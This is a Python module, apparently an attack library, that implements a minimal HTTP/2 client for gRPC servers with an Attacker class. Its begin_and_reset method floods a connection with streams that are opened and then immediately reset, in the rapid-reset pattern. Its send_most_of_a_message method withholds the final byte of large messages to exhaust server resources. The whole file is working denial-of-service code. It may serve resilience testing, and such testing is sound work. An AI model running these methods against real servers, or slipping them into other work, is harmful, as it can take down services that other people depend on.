"""As much of HTTP/2 as an attacker needs: frames, calls that are begun, windows that are kept."""
import contextlib
import socket
import struct
import threading

DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 7, 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LARGEST_FRAME = 16384
FIRST_WINDOW = 65535


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(text):
    return bytes([len(text)]) + text.encode("ascii")


def call_headers(path, authority="x"):
    """HPACK without a table: POST over http of gRPC."""
    return (b"\x83\x86\x04" + literal(path) + b"\x01" + literal(authority) + b"\x00" +
            literal("content-type") + literal("application/grpc") + b"\x00" + literal("te") +
            literal("trailers"))


class Attacker:
    """One connection; a thread reads what comes and keeps the windows."""

    def __init__(self, address):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), 5)
        self.changed = threading.Condition()
        self.windows = {0: FIRST_WINDOW}
        self.first_window = FIRST_WINDOW
        self.closed = False
        self.next_stream = 1
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))
        threading.Thread(target=self.read, daemon=True).start()

    def close(self):
        with contextlib.suppress(OSError):
            self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()

    def read(self):
        with contextlib.suppress(OSError), self.socket.makefile("rb") as incoming:
            while len(head := incoming.read(9)) == 9:
                length, kind = int.from_bytes(head[:3], "big"), head[3]
                payload = incoming.read(length)
                self.take(kind, head[4], int.from_bytes(head[5:], "big"), payload)
        with self.changed:
            self.closed = True
            self.changed.notify_all()

    def take(self, kind, flags, stream, payload):
        with self.changed:
            if kind == WINDOW_UPDATE:
                self.windows[stream] = self.window(stream) + int.from_bytes(payload, "big")
            if kind == SETTINGS and not flags & ACK:
                for at in range(0, len(payload), 6):
                    name, value = struct.unpack(">HI", payload[at:at + 6])
                    if name == 4:
                        for one in self.windows:
                            self.windows[one] += (value - self.first_window) if one else 0
                        self.first_window = value
                self.socket.sendall(frame(SETTINGS, ACK, 0))
            if kind == GOAWAY:
                self.closed = True
            self.changed.notify_all()

    def window(self, stream):
        return self.windows.setdefault(stream, self.first_window)

    def begin(self, path):
        """The headers of a call. Returns its stream."""
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        self.socket.sendall(frame(HEADERS, END_HEADERS, stream, call_headers(path)))
        return stream

    def begin_and_reset(self, path, times):
        """So many calls with an empty request, each taken back at once, in one write."""
        sent = b""
        for _ in range(times):
            stream, self.next_stream = self.next_stream, self.next_stream + 2
            sent += (frame(HEADERS, END_HEADERS, stream, call_headers(path)) +
                     frame(DATA, END_STREAM, stream, bytes(5)) +
                     frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
        self.socket.sendall(sent)

    def send_most_of_a_message(self, stream, size):
        """A message of this size without its last byte, as fast as the windows permit.

        Returns the number of bytes that were sent.
        """
        left, first = size - 1, b"\0" + struct.pack(">I", size)
        self.spend(stream, len(first))
        self.socket.sendall(frame(DATA, 0, stream, first))
        while left:
            take = self.spend(stream, min(left, LARGEST_FRAME))
            if take == 0:
                break
            self.socket.sendall(frame(DATA, 0, stream, bytes(take)))
            left -= take
        return size - 1 - left

    def spend(self, stream, wanted):
        """Waits for room in both windows. Returns how much of it may be sent; 0: no more comes."""
        with self.changed:
            def room():
                return min(self.window(0), self.window(stream))
            self.changed.wait_for(lambda: self.closed or room() > 0, 5)
            if self.closed or room() <= 0:
                return 0
            take = min(wanted, room())
            self.windows[0] -= take
            self.windows[stream] -= take
            return take
